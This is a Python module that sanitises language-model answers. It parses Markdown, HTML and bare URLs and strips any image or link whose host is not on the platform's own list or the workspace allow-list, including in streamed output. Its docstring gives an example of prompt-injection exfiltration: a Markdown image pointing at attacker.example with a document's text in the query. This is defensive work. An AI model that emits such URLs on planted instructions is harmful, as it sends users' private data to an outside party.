"""Model output cannot carry data out: the links and images of an answer, checked before anyone sees it.

A model that obeys an instruction planted in a document can write ``![logo](https://attacker.example/p.png?d=
<the document's text>)``: a client that renders images (Open WebUI, LibreChat) fetches it and sends the text
away, with nobody clicking anything; a link does the same in one click. So every answer (chat, OpenAI-compatible
chat, agent run; plain and streamed) goes through ``sanitise`` before it is shown or stored:

- an **image** is kept only when its URL is an absolute ``http(s)`` URL on one of the platform's own hosts
  (``settings``: API, gateway, identity, web app, every region's addresses); any other becomes its alt text
  and ``[image removed]``;
- a **link** (inline, reference-style, autolink ``<...>``, a bare URL, a raw HTML ``<a>``) keeps its URL when
  it is relative, on the platform's own hosts, on the workspace's allow-list (``answer_link_hosts``, an Admin
  setting: hosts, or ``*.`` + host for its subdomains), or stands verbatim in one of the answer's sources;
  otherwise its text stays and says ``[link removed]``. A schemeless bare URL (``example.com/p?d=...``) counts
  when it has a path, query or fragment, or starts with ``www.``;
- a raw HTML tag with any URL-bearing attribute that fails these rules is removed (``[image removed]``,
  ``[link removed]`` or ``[content removed]``); a reference definition whose URL fails is removed.

Links and images are found with ``markdown-it-py`` (CommonMark, tables, raw HTML on) and bare URLs with
``linkify-it-py``, never with hand-written patterns; each construct is cut from the source at the span the
parser read, so everything else in the answer is left exactly as written. The result is parsed again and
checked: if anything the rules refuse is still there (a construct whose span could not be located), the
whole answer falls back to text in which no Markdown link, image or HTML can form.

``Guard`` does the same for a streamed answer: it holds back the end of the buffer until no link can still
be forming there (a word still being written; in the paragraph being written, from a ``[`` not yet closed,
or closed and followed by ``(`` without its ``)`` yet, ``[`` or ``:``, and from a ``<`` that may open a tag
or an autolink, until that paragraph ends) and sends each settled piece sanitised, so no delta carries a
URL before it was checked; a citation marker ``[1]`` or a complete link does not hold it. Sentences that carry a marker are never counted as grounded (``knowledge/grounding.py``).
"""
from __future__ import annotations

import json
from collections.abc import Iterable
from dataclasses import dataclass, field
from html.parser import HTMLParser
from typing import Any
from urllib.parse import urlsplit

from linkify_it import LinkifyIt
from markdown_it import MarkdownIt
from markdown_it.rules_inline import StateInline
from markdown_it.rules_inline.linkify import SCHEME_RE
from markdown_it.token import Token

from chalicelib.core.config import settings
from chalicelib.core.process_state import cached

IMAGE_REMOVED = "[image removed]"
LINK_REMOVED = "[link removed]"
CONTENT_REMOVED = "[content removed]"
MARKERS = (IMAGE_REMOVED, LINK_REMOVED, CONTENT_REMOVED)
LINK_SCHEMES = ("http", "https", "mailto")
URL_ATTRIBUTES = {"href", "src", "srcset", "poster", "data", "action", "formaction", "background", "cite",
                  "longdesc", "lowsrc", "dynsrc", "ping", "xlink:href", "content", "style", "manifest", "codebase"}
IMAGE_TAGS = {"img", "image", "picture", "source", "svg", "input"}


@dataclass(frozen=True)
class Rules:
    """What an answer may link to: the platform's own hosts, the workspace's allowed hosts (``*.`` + host
    for subdomains) and the URLs that stand in the answer's sources (a URL equal to one is kept: a part
    of one, or one with anything added, is not)."""

    own_hosts: frozenset[str]
    allowed_hosts: frozenset[str] = frozenset()
    source_urls: frozenset[str] = frozenset()

    def host_allowed(self, host: str) -> bool:
        host = host.lower().rstrip(".")
        if host in self.own_hosts or host in self.allowed_hosts:
            return True
        return any(h.startswith("*.") and host.endswith(h[1:]) for h in self.allowed_hosts)

    def in_sources(self, url: str) -> bool:
        return url in self.source_urls


@dataclass
class Sanitised:
    text: str
    removed: list[dict[str, str]] = field(default_factory=list)  # {"kind", "host"}: never the URL itself
    fallback: bool = False  # the answer was flattened to text (a construct could not be located)


# --- parsing ------------------------------------------------------------------------------------------------

def _tracked(rule: Any) -> Any:
    """An inline rule that records, on the token it opens, the span of the source it consumed."""

    def run(state: StateInline, silent: bool) -> bool:
        start, first = state.pos, len(state.tokens)
        ok = bool(rule(state, silent))
        if ok and not silent:
            for tok in state.tokens[first:]:
                if tok.type in ("link_open", "image", "html_inline"):
                    tok.meta = {**(tok.meta or {}), "span": (start, state.pos)}
                    break
        return ok

    return run


@cached(maxsize=1, derived=True)
def _parser() -> MarkdownIt:
    md = MarkdownIt("commonmark", {"html": True, "linkify": True, "typographer": False})
    md.enable(["table", "strikethrough", "linkify"])
    if md.linkify is not None:
        md.linkify.set({"fuzzy_email": False})
    for rule in list(md.inline.ruler.__rules__):
        if rule.name in ("link", "image", "autolink", "html_inline"):
            md.inline.ruler.at(rule.name, _tracked(rule.fn))
    md.validateLink = lambda url: True  # type: ignore[method-assign]  # every destination becomes a token: all are judged
    return md


@cached(maxsize=1, derived=True)
def _linkify() -> LinkifyIt:
    return LinkifyIt(options={"fuzzy_email": False})


def _own_hosts() -> frozenset[str]:
    """The hosts of the platform's own addresses (every group, every region)."""
    s = settings()
    urls = [s.base_url, s.gateway_url, s.auth_url, s.app_url]
    try:
        for where in json.loads(s.regional_urls or "{}").values():
            urls += [u for u in where.values() if isinstance(u, str)]
    except (ValueError, AttributeError):
        pass
    return frozenset(h.lower() for h in (urlsplit(u).hostname for u in urls) if h)


def rules(allowed_hosts: Iterable[str] = (), sources: Iterable[str] = ()) -> Rules:
    """The rules for one answer: the workspace's allowed hosts and its sources' texts."""
    texts = tuple(t for t in sources if t)
    urls: set[str] = set()
    md = _parser()
    for t in texts:
        for m in _bare_urls(t):
            urls |= {m.url, md.normalizeLink(m.url), t[m.index:m.last_index]}
    return Rules(_own_hosts(), frozenset(h.lower() for h in allowed_hosts), frozenset(urls))


def _host(url: str) -> tuple[str, str]:
    """``(scheme, host)`` of a URL ("" when absent; a mailto's host is its address's domain)."""
    try:
        parts = urlsplit(url.strip())
        scheme = parts.scheme.lower()
        if scheme == "mailto":
            return scheme, parts.path.rsplit("@", 1)[-1].split("?", 1)[0].lower() if "@" in parts.path else ""
        return scheme, (parts.hostname or "").lower()
    except ValueError:
        return "?", "?"


def image_ok(url: str, r: Rules) -> bool:
    scheme, host = _host(url)
    return scheme in ("http", "https") and bool(host) and host in r.own_hosts


def link_ok(url: str, r: Rules) -> bool:
    url = url.strip()
    scheme, host = _host(url)
    if not scheme and not host:
        return not url.startswith("\\")  # a relative link stays on the site that shows the answer
    if scheme and scheme not in LINK_SCHEMES:
        return False
    return r.in_sources(url) or (bool(host) and r.host_allowed(host))


def _bare_counts(text: str, schema: str) -> bool:
    """Whether a bare URL linkify found is a link a client would follow (schemeless ones: with a path, a
    query or a fragment, or www.)."""
    if schema:
        return True
    return text.lower().startswith("www.") or any(c in text for c in "/?#")


# --- raw HTML ---------------------------------------------------------------------------------------------

class _Tags(HTMLParser):
    """Every start tag of an HTML fragment: ``(line, column, raw tag, name, attributes)``."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[tuple[int, int, str, str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        line, col = self.getpos()
        self.found.append((line, col, self.get_starttag_text() or "", tag, attrs))

    handle_startendtag = handle_starttag


def _tag_ok(tag: str, attrs: list[tuple[str, str | None]], r: Rules) -> bool:
    """A raw HTML tag is kept when none of its URL-bearing attributes fails: an ``<a href>`` follows the
    link rules, any other URL (``src``, ``srcset``, ``poster``, ...) the image rules; a ``style`` or
    ``content`` naming a URL fails."""
    for name, value in attrs:
        if value is None or not value.strip():
            continue
        name, v = name.lower(), value.strip()
        if name == "href" and tag == "a":
            if not link_ok(v, r):
                return False
        elif name in ("style", "content"):
            if "url" in v.lower() or "//" in v:
                return False
        elif name in URL_ATTRIBUTES or "//" in v:
            candidates = [c.split()[0] for c in v.split(",") if c.strip()] if name == "srcset" else [v]
            if not all(image_ok(c, r) for c in candidates):
                return False
    return True


def _tag_marker(tag: str) -> str:
    return LINK_REMOVED if tag == "a" else IMAGE_REMOVED if tag in IMAGE_TAGS else CONTENT_REMOVED


def _html_edits(fragment: str, r: Rules) -> list[tuple[int, int, str, str]]:
    """``(start, end, replacement, tag)`` in ``fragment`` for each refused tag."""
    parser = _Tags()
    parser.feed(fragment)
    parser.close()
    starts = [0]
    for line in fragment.split("\n"):
        starts.append(starts[-1] + len(line) + 1)
    out = []
    for row, col, raw, tag, attrs in parser.found:
        if not _tag_ok(tag, attrs, r):
            at = starts[row - 1] + col
            out.append((at, at + len(raw), _tag_marker(tag), tag))
    return out


# --- locating inline spans in the source -----------------------------------------------------------------

class _Source:
    def __init__(self, text: str) -> None:
        self.text = text
        self.lines = text.split("\n")
        self.starts = [0]
        for line in self.lines:
            self.starts.append(self.starts[-1] + len(line) + 1)
        self.cursor: dict[int, int] = {}

    def mapper(self, content: str, first_line: int, cell: bool) -> Any:
        """A function from an offset in ``content`` (a block's inline text, container prefixes removed) to
        one in the source, or None when a line cannot be located."""
        offsets: list[int | None] = []
        for i, cl in enumerate(content.split("\n")):
            n = first_line + i
            if n >= len(self.lines):
                offsets.append(None)
                continue
            line = self.lines[n]
            if cell:
                at = line.find(cl, self.cursor.get(n, 0))
                if at >= 0:
                    self.cursor[n] = at + len(cl)
            elif line.endswith(cl):
                at = len(line) - len(cl)
            elif line.rstrip().endswith(cl.rstrip()):
                at = len(line.rstrip()) - len(cl.rstrip())
            else:
                at = line.find(cl)
            offsets.append(None if at < 0 else self.starts[n] + at)
        line_starts = [0]
        for cl in content.split("\n"):
            line_starts.append(line_starts[-1] + len(cl) + 1)

        def to_source(k: int) -> int | None:
            i = max(j for j in range(len(offsets)) if line_starts[j] <= k)
            base = offsets[i]
            return None if base is None else base + k - line_starts[i]

        return to_source


def _plain(children: list[Token], r: Rules) -> str:
    """The text of a link's label (an image in it becomes its alt text and, when refused, the marker)."""
    out = []
    for c in children:
        if c.type in ("text", "code_inline"):
            out.append(c.content if c.type != "code_inline" else f"`{c.content}`")
        elif c.type in ("softbreak", "hardbreak"):
            out.append(" ")
        elif c.type == "image":
            alt = _plain(c.children or [], r)
            out.append(alt if image_ok(str(c.attrGet("src") or ""), r) else f"{alt} {IMAGE_REMOVED}".strip())
    return "".join(out).strip()


@dataclass
class _Pass:
    r: Rules
    edits: list[tuple[int, int, str]] = field(default_factory=list)
    removed: list[dict[str, str]] = field(default_factory=list)
    lost: bool = False  # a refused construct whose span could not be located

    def cut(self, start: int | None, end: int | None, replacement: str, kind: str, url: str) -> None:
        self.removed.append({"kind": kind, "host": _host(url)[1]})
        if start is None or end is None or start > end:
            self.lost = True
            return
        self.edits.append((start, end, replacement))


def _inline(p: _Pass, children: list[Token], to_source: Any) -> None:
    stack: list[tuple[Token, int]] = []
    for i, tok in enumerate(children):
        span = (tok.meta or {}).get("span")
        if tok.type == "image" and not image_ok(str(tok.attrGet("src") or ""), p.r):
            alt = _plain(tok.children or [], p.r)
            s, e = span if span else (None, None)
            p.cut(_at(to_source, s), _at(to_source, e), f"{alt} {IMAGE_REMOVED}".strip(), "image",
                  str(tok.attrGet("src") or ""))
        elif tok.type == "link_open":
            stack.append((tok, i))
        elif tok.type == "link_close" and stack:
            opener, at = stack.pop()
            _link(p, opener, children[at + 1:i], to_source)
        elif tok.type == "html_inline" and span:
            for _, _, marker, tag in _html_edits(tok.content, p.r):
                p.cut(to_source(span[0]), to_source(span[1]), marker, "html:" + tag, "")


def _at(to_source: Any, offset: int | None) -> int | None:
    """A parsed offset in the source text (None stays None: the span could not be located)."""
    return to_source(offset) if offset is not None else None


def _link(p: _Pass, opener: Token, inside: list[Token], to_source: Any) -> None:
    """One link (its opening token and the tokens it holds): cut unless the rules allow its address."""
    href = str(opener.attrGet("href") or "")
    if link_ok(href, p.r):
        return
    if opener.markup == "linkify":  # a bare URL: the linkify pass cuts it at its exact span
        shown = "".join(c.content for c in inside)
        if _bare_counts(shown, "" if "://" not in shown else "http:") and not p.r.in_sources(shown):
            p.removed.append({"kind": "link", "host": _host(href)[1]})
        return
    label = _plain(inside, p.r)
    s, e = (opener.meta or {}).get("span", (None, None))
    text = f"{label} {LINK_REMOVED}" if label and opener.markup != "autolink" else LINK_REMOVED
    p.cut(_at(to_source, s), _at(to_source, e), text, "link", href)


def _collect(text: str, r: Rules) -> _Pass:
    md = _parser()
    env: dict[str, Any] = {}
    tokens = md.parse(text, env)
    src = _Source(text)
    p = _Pass(r)
    for ref in [*env.get("references", {}).values(), *env.get("duplicate_refs", [])]:
        if not link_ok(ref["href"], r):
            lo, hi = ref["map"]
            p.cut(src.starts[lo], src.starts[hi] - 1, "", "reference", ref["href"])
    for n, tok in enumerate(tokens):
        if tok.type == "inline" and tok.map is not None:
            cell = n > 0 and tokens[n - 1].type in ("th_open", "td_open")
            _inline(p, tok.children or [], src.mapper(tok.content, tok.map[0], cell))
        elif tok.type == "html_block" and tok.map is not None:
            to_source = src.mapper(tok.content.rstrip("\n"), tok.map[0], False)
            for s, e, marker, tag in _html_edits(tok.content, r):
                p.cut(to_source(s), to_source(e), marker, "html:" + tag, "")
    return p


def _apply(text: str, edits: list[tuple[int, int, str]]) -> str:
    chosen: list[tuple[int, int, str]] = []
    for s, e, rep in sorted(edits, key=lambda x: (x[0], -x[1])):
        if chosen and s < chosen[-1][1]:
            continue  # inside a construct already replaced (an image in a refused link)
        chosen.append((s, e, rep))
    for s, e, rep in reversed(chosen):
        text = text[:s] + rep + text[e:]
    return text


@dataclass(frozen=True)
class _Bare:
    index: int
    last_index: int
    url: str
    schema: str


def _bare_urls(text: str) -> list[_Bare]:
    """Every bare URL in ``text``: linkify's matches, and those markdown-it's own linkify rule finds at
    each ``://`` (its scheme taken back as that rule takes it, so ``src=http://...`` counts too)."""
    found = [_Bare(m.index, m.last_index, m.url, m.schema) for m in _linkify().match(text) or []]
    at = text.find("://")
    while at >= 0:
        scheme = SCHEME_RE.search(text[:at])
        if scheme:
            start = at - len(scheme.group(1))
            m = _linkify().match_at_start(text[start:])
            if m:
                found.append(_Bare(start, start + m.last_index, m.url, m.schema))
        at = text.find("://", at + 3)
    out: list[_Bare] = []
    for b in sorted(found, key=lambda b: (b.index, -b.last_index)):
        if not out or b.index >= out[-1].last_index:
            out.append(b)
    return out


def _bare_ok(m: Any, raw: str, r: Rules) -> bool:
    """A bare URL is judged as the link it becomes (a schemeless one is not a relative link)."""
    return link_ok(m.url, r) or (bool(m.schema) and link_ok(raw, r)) or r.in_sources(raw)


def _cut_bare(text: str, r: Rules) -> tuple[str, list[dict[str, str]]]:
    """Every bare URL linkify finds that the rules refuse becomes the marker."""
    out, last, removed = [], 0, []
    for m in _bare_urls(text):
        raw = text[m.index:m.last_index]
        if not _bare_counts(raw, m.schema) or _bare_ok(m, raw, r):
            continue
        removed.append({"kind": "link", "host": _host(m.url)[1]})
        out.append(text[last:m.index] + LINK_REMOVED)
        last = m.last_index
    return "".join(out) + text[last:], removed


def _refused(text: str, r: Rules) -> bool:
    """Whether ``text`` still holds anything the rules refuse (the check after the cut)."""
    p = _collect(text, r)
    if p.removed:
        return True
    return any(_bare_counts(text[m.index:m.last_index], m.schema) and not _bare_ok(m, text[m.index:m.last_index], r)
               for m in _bare_urls(text))


def _flatten(text: str, r: Rules) -> str:
    """Text in which no Markdown link, image, reference or HTML can form, bare URLs cut."""
    text = _cut_bare(text, r)[0]
    return "".join("\\" + c if c in "\\[]()<>!&" else c for c in text)


def sanitise(text: str, r: Rules) -> Sanitised:
    """``text`` with every refused image, link and HTML tag removed (module docstring)."""
    if not text:
        return Sanitised(text)
    p = _collect(text, r)
    out = _apply(text, p.edits) if p.edits else text
    out, bare = _cut_bare(out, r)
    if not p.removed and not bare:
        return Sanitised(text)
    if p.lost or _refused(out, r):
        return Sanitised(_flatten(text, r), p.removed + bare, fallback=True)
    return Sanitised(out, p.removed + bare)


def carries_marker(sentence: str) -> bool:
    """Whether a sentence lost a link or an image (it is never counted as grounded)."""
    return any(m in sentence for m in MARKERS)


# --- streaming ---------------------------------------------------------------------------------------------

def _close(text: str, at: int, opener: str, closer: str) -> int:
    """The index after the ``closer`` matching the ``opener`` at ``at`` (escapes skipped), or -1."""
    depth, i = 0, at
    while i < len(text):
        c = text[i]
        if c == "\\":
            i += 2
            continue
        if c == opener:
            depth += 1
        elif c == closer:
            depth -= 1
            if depth == 0:
                return i + 1
        i += 1
    return -1


def _unsettled(tail: str) -> int | None:
    """Where, in the paragraph being written, a link, image, reference or HTML tag may still be forming
    (None: nowhere). A ``[...]`` closed and followed by anything but ``(``, ``[`` or ``:`` is settled (a
    citation marker ``[1]``), and so is a complete ``[...](...)``; a ``<`` before a letter, ``/``, ``!`` or
    ``?`` (a tag or an autolink) holds the rest of the paragraph."""
    i = 0
    while i < len(tail):
        c = tail[i]
        if c == "\\":
            i += 2
            continue
        start = i - 1 if i and tail[i - 1] == "!" else i
        if c == "<" and (i + 1 >= len(tail) or tail[i + 1].isalpha() or tail[i + 1] in "/!?"):
            return start
        if c == "[":
            j = _close(tail, i, "[", "]")
            if j < 0 or j >= len(tail) or tail[j] == ":":
                return start
            if tail[j] == "(":
                k = _close(tail, j, "(", ")")
                if k < 0 or k >= len(tail):
                    return start
                i = k
                continue
            i = j  # followed by "[": that group is judged on its own
            continue
        i += 1
    return None


class Guard:
    """Sanitises a streamed answer piece by piece: ``feed`` returns what may be sent now, ``end`` the rest."""

    def __init__(self, r: Rules) -> None:
        self.r = r
        self.buffer = ""
        self.sent = 0  # characters of the buffer already sanitised and sent

    def _settled(self) -> int:
        """How much of the buffer is settled: up to the last whole word, and in the paragraph being
        written, up to where a link may still be forming (``_unsettled``) until that paragraph ends."""
        buf, sent = self.buffer, self.sent
        brk = buf.rfind("\n\n")
        block = sent if brk < 0 else max(brk + 2, sent)
        hold = _unsettled(buf[block:])
        limit = len(buf) if hold is None else block + hold
        if limit > sent and not buf[limit - 1].isspace():  # never inside a word
            space = max(buf.rfind(c, sent, limit) for c in " \n\t")
            limit = space + 1 if space >= sent else sent
        return limit

    def feed(self, piece: str) -> str:
        self.buffer += piece
        cut = self._settled()
        if cut <= self.sent:
            return ""
        out = sanitise(self.buffer[self.sent:cut], self.r).text
        self.sent = cut
        return out

    def end(self) -> str:
        if self.sent >= len(self.buffer):
            return ""
        out = sanitise(self.buffer[self.sent:], self.r).text
        self.sent = len(self.buffer)
        return out
